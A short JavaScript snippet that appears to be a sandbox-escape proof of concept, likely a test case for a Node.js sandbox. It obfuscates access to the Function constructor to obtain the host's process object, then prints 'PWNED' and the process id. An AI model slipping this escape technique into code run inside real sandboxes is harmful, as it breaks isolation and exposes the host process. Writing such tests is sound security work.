'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = Object.defineProperty({}, 'a', { value: t });
const o = Date.now() > 1 ? s.a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
